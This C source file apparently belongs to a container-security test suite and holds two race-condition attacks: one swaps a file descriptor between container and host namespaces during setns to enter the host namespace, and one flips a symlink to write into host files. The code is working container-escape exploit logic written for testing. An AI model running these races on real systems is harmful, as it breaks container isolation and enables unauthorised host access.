/* SPDX-License-Identifier: Apache-2.0 */
/* Races with the deciding programs: what they look at is replaced while they look. */
#include "adversary.h"

static int own_fd, host_fd, used_fd;

/* The descriptor is at one time of the container's namespace, at another of the host's. */
__attribute__((noreturn)) static void flip_descriptor(void)
{
	for (;;) {
		dup2(own_fd, used_fd);
		dup2(host_fd, used_fd);
	}
}

/*
 * enter_race HOST OWN TYPE MILLISECONDS TRIES: a process that shares the descriptors flips one, another
 * enters what it finds there. Prints the number of tries.
 */
static int attack_enter_race(char **args)
{
	long tries = 0, most = number(args, 4, 100000);
	long long end = now_ms() + number(args, 3, 3000);
	pid_t flipper;
	struct stat host, mine;
	char path[64];

	own_fd = open(word(args, 1, "/proc/self/ns/uts"), O_RDONLY);
	host_fd = open(word(args, 0, "/proc/1/ns/uts"), O_RDONLY);
	need(own_fd >= 0 && host_fd >= 0 && !fstat(host_fd, &host), "the namespaces' files");
	used_fd = dup(own_fd);
	flipper = syscall(SYS_clone, CLONE_FILES | SIGCHLD, NULL, NULL, NULL, NULL);
	need(flipper >= 0, "clone");
	if (!flipper)
		flip_descriptor();
	snprintf(path, sizeof(path), "%s", word(args, 1, "/proc/self/ns/uts"));
	while (tries++ < most && now_ms() < end) {
		if (setns(used_fd, number(args, 2, 0)))
			continue;
		if (!stat(path, &mine) && mine.st_ino == host.st_ino)
			break;
	}
	kill(flipper, SIGKILL);
	printf("tries %ld\n", tries);
	if (stat(path, &mine) || mine.st_ino != host.st_ino) {
		errno = EPERM;
		return result(-1);
	}
	linger();
	return result(0);
}

static const char *link_name, *link_here, *link_there;

__attribute__((noreturn)) static void flip_link(void)
{
	for (;;) {
		unlink(link_name);
		if (symlink(link_here, link_name))
			continue;
		unlink(link_name);
		if (symlink(link_there, link_name))
			continue;
	}
}

/* write_race OWN HOST TEXT MILLISECONDS: a link leads to a file of the container, then of the host. */
static int attack_write_race(char **args)
{
	long long end = now_ms() + number(args, 3, 2000);
	const char *text = word(args, 2, "x");
	pid_t flipper;
	int worked = 0;

	link_name = "/tmp/flip";
	link_here = word(args, 0, "/tmp/own");
	link_there = word(args, 1, "/tmp/host");
	flipper = fork();
	need(flipper >= 0, "fork");
	if (!flipper)
		flip_link();
	while (now_ms() < end) {
		int fd = open(link_name, O_WRONLY);

		if (fd >= 0 && write(fd, text, strlen(text)) > 0)
			worked++;
		if (fd >= 0)
			close(fd);
	}
	kill(flipper, SIGKILL);
	return result(worked);
}

const struct attack race_attacks[] = {
	{ "enter_race", attack_enter_race },
	{ "write_race", attack_write_race },
	{ NULL, NULL },
};
